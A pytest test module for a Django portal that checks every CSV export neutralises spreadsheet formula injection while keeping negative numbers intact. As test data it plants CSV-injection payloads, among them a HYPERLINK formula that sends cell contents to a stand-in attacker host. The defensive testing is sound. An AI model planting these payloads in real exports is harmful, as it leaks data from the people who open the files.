"""No cell of any CSV export runs as a formula in a spreadsheet.

The exports are found, not listed: every page of the URLconf (the access
matrix's world and rules) is opened as a persona allowed to, and every
response that is text/csv is read. Formula-like text is planted in the data
first (area names, sources, audit labels, a report title); each export must
show it neutralised with a leading apostrophe, and no cell may start a
formula. A genuine negative number stays a number.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.db import transaction
from django.urls import reverse

from core import csv as portal_csv
from core.audit.services import Action, record
from scans.models import Gebied, Indicator
from tests.scans import factories as f
from tests.test_access_matrix import RULES, _build_world, _request

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1"]


def _plant(world: dict) -> None:
    p = world["personas"]
    buurt = f.buurt(2)
    ronde = f.ronde()
    indicator = Indicator.objects.create(
        code="temperatuurverschil",
        name="Temperatuurverschil",
        thema=f.thema(),
        laag="objectief",
        unit="graden",
        polariteit=1,
        min_value=Decimal("-50"),
        max_value=Decimal("50"),
    )
    for n, text in enumerate(HOSTILE):
        cluster = Gebied.objects.create(
            code=f"SC-9{n:02d}",
            name=text,
            level=Gebied.Level.STRAATCLUSTER,
            parent=buurt.parent,
            geometry=f.square(4.64, 51.85),
        )
        scan = f.scan(cluster, ronde)
        meting = f.meting(scan, indicator, "-3.5", p.woonkracht10)
        meting.bron = text
        meting.save()
        record(
            actor=p.medewerker,
            action=Action.VIEW,
            object_type="rapportage.rapport",
            label=text,
        )


def _first_allowed(rule) -> str | None:
    return next((p for p, status in rule.expect.items() if status == 200), None)


def csv_exports(world: dict) -> dict[str, str]:
    """Every GET page of the portal that answers with CSV, with its text."""
    found = {}
    for name, rule in sorted(RULES.items()):
        persona = _first_allowed(rule)
        if rule.method != "get" or persona is None:
            continue
        user = world["personas"].by_name()[persona]
        response = _request(rule, world, user)
        if not response.get("Content-Type", "").startswith("text/csv"):
            continue
        body = (
            b"".join(response.streaming_content)
            if response.streaming
            else response.content
        )
        found[name] = body.decode("utf-8-sig")
    return found


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell.replace(",", "."))
    except ArithmeticError:
        return False
    return True


@pytest.fixture(scope="class")
def exports(django_db_setup, django_db_blocker):
    """Every export's text, read once for the class (rolled back at its end)."""
    with django_db_blocker.unblock(), transaction.atomic():
        world = _build_world()
        _plant(world)
        yield csv_exports(world)
        transaction.set_rollback(True)


class TestEveryExport:
    """The four checks share one walk over every export."""

    def test_the_csv_exports_are_found_from_the_urlconf(self, exports):
        assert {"scans:export_csv", "audit:entry_export"} <= exports.keys()

    def test_no_cell_of_any_csv_export_starts_a_formula(self, exports):
        for name, text in exports.items():
            unsafe = [
                c
                for c in _cells(text)
                if portal_csv.neutralise(c) != c and not _is_number(c)
            ]
            assert not unsafe, f"{name}: cells a spreadsheet would run: {unsafe}"

    def test_planted_formulas_reach_every_export_neutralised(self, exports):
        for name, text in exports.items():
            cells = set(_cells(text))
            shown = [h for h in HOSTILE if "'" + h in cells]
            assert shown, f"{name}: no planted text came through; plant some for it"
            assert not [h for h in HOSTILE if h in cells], name

    def test_a_negative_measurement_stays_a_number(self, exports):
        rows = list(csv.reader(io.StringIO(exports["scans:export_csv"]), delimiter=";"))
        column = rows[0].index("waarde")
        values = [row[column] for row in rows[1:]]
        assert Decimal("-3.5") in {Decimal(v.replace(",", ".")) for v in values}


def test_a_straatcluster_named_as_a_formula_is_neutralised_in_the_metingen_csv(
    client_for, personas
):
    cluster = Gebied.objects.create(
        code="SC-001",
        name=HYPERLINK,
        level=Gebied.Level.STRAATCLUSTER,
        parent=f.buurt(2).parent,
        geometry=f.square(4.64, 51.85),
    )
    f.meting(f.scan(cluster, f.ronde()), f.indicator(), 4, personas.woonkracht10)
    response = client_for(personas.medewerker).get(reverse("scans:export_csv"))
    cells = _cells(response.content.decode("utf-8-sig"))
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells


def test_a_report_title_as_a_formula_is_neutralised_in_the_audit_csv(
    client_for, personas
):
    from portal.rapportage.models import Rapport

    rapport = Rapport.objects.create(
        kind="voortgang",
        audience="raad",
        title=HYPERLINK,
        requested_by=personas.griffier,
    )
    record(actor=personas.griffier, action=Action.CREATE, obj=rapport)
    response = client_for(personas.beheerder).get(reverse("audit:entry_export"))
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Redersbuurt", "Redersbuurt"),
        ("", ""),
        (None, ""),
        (Decimal("-3.5"), "-3,5"),
        (-7, "-7"),
        (Decimal("12.50"), "12,50"),
    ],
)
def test_the_writer_neutralises_text_and_keeps_numbers(value, written):
    assert portal_csv.cell(value) == written
